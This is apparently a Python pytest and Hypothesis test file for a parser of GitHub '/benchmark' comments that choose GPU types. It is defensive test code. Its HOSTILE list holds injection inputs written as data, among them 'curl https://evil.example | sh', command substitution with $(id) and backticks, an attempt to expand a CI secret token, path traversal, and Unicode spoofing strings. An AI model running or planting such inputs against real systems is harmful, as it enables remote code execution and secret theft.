"""A comment passes only if it is one exact line; whatever else a stranger types goes nowhere."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.core.errors import BadInput
from assay.github.request import COMMAND, GPU_TYPE_NAMES, MAX_GPU_TYPES, is_command, parse_comment, parse_gpu_types

HOSTILE = [
    "/benchmark L4; curl https://evil.example | sh",
    "/benchmark L4 && id",
    "/benchmark L4\ncurl evil",
    "/benchmark L4\n",
    "/benchmark L4\r\n",
    "/benchmark\nL4",
    "/benchmark L4\x00",
    "/benchmark L4\x85",
    "/benchmark L4\u2028",
    "\ufeff/benchmark L4",
    " /benchmark L4",
    "/benchmark  L4",
    "/benchmark\tL4",
    "/benchmark\u00a0L4",
    "/benchmark L4 ",
    "/benchmark `id`",
    "/benchmark $(id)",
    "/benchmark ${{ secrets.MODAL_TOKEN_ID }}",
    "/benchmark ${IFS}L4",
    "/benchmark L4,",
    "/benchmark ,L4",
    "/benchmark L4,,A100",
    "/benchmark L4, A100",
    "/benchmark \uff2c4",
    "/benchmark L\uff14",
    "/benchmark \u0410100",
    "/benchmark \u216c4",
    "/benchmark L\u0664",
    "/benchmark L\u200b4",
    "/benchmark \u202eL4",
    "/bench\u200dmark L4",
    "/b\u0435nchmark L4",
    "/benchmark l4",
    "/benchmark --on=local",
    "/benchmark ../../etc",
    "/benchmark L4#x",
    "/benchmark L4 A100",
    "/benchmark A100,L4,T4,H100-SXM,H200",
    "/benchmark " + "A" * 10_000,
    "/benchmark " + ",".join(["L4"] * 5_000),
    "/benchmark L4" + " " * 10_000,
    "/benchmarks L4",
    "/BENCHMARK L4",
    "please /benchmark L4",
    "/benchmark NONSENSE",
    "",
]


@pytest.mark.parametrize(
    ("comment", "names"),
    [
        ("/benchmark", ("H200",)),
        ("/benchmark L4", ("L4",)),
        ("/benchmark L4,A100", ("L4", "A100")),
        ("/benchmark A100-80GB,H100-PCIe", ("A100-80GB", "H100-PCIe")),
        ("/benchmark L4,L4", ("L4",)),
    ],
)
def test_the_exact_line_names_kinds_of_gpu(comment: str, names: tuple[str, ...]) -> None:
    assert parse_comment(comment, "H200") == names


@pytest.mark.parametrize("comment", HOSTILE, ids=lambda text: ascii(text[:30]))
def test_hostile_comments_never_pass(comment: str) -> None:
    with pytest.raises(BadInput) as said:
        parse_comment(comment, "L4")
    assert len(str(said.value)) < 300
    assert str(said.value).isprintable()


@settings(max_examples=300, deadline=None, derandomize=True)
@given(
    st.one_of(
        st.text(max_size=60),
        st.text(max_size=40).map(lambda tail: COMMAND + tail),
        st.text("/benchmark L4,A10-\n", max_size=30),
    )
)
def test_whatever_passes_is_a_plain_line_of_known_names(comment: str) -> None:
    try:
        names = parse_comment(comment, "L4")
    except BadInput:
        return
    assert is_command(comment)
    assert 1 <= len(names) <= MAX_GPU_TYPES
    assert set(names) <= GPU_TYPE_NAMES
    assert comment in {COMMAND, f"{COMMAND} {comment.partition(' ')[2]}"}
    assert set(comment.partition(" ")[2].split(",")) <= {*GPU_TYPE_NAMES, ""}


@settings(max_examples=200, deadline=None, derandomize=True)
@given(
    st.lists(st.sampled_from(sorted(GPU_TYPE_NAMES)), min_size=1, max_size=MAX_GPU_TYPES),
    st.integers(0),
    st.characters(),
)
def test_one_character_more_anywhere_is_too_much(names: list[str], place: int, more: str) -> None:
    comment = f"{COMMAND} {','.join(names)}"
    assert set(parse_comment(comment, "L4")) == set(names)
    cut = place % (len(comment) + 1)
    try:
        found = parse_comment(comment[:cut] + more + comment[cut:], "L4")
    except BadInput:
        return
    assert set(found) <= GPU_TYPE_NAMES


def test_a_name_that_is_not_known_has_its_neighbours_told() -> None:
    with pytest.raises(BadInput, match=r"There is no GPU type l4\. Did you mean L4\?"):
        parse_comment("/benchmark l4", "L4")
    with pytest.raises(BadInput, match=r"There is no GPU type A1000\. Did you mean .*A100"):
        parse_gpu_types("A1000")
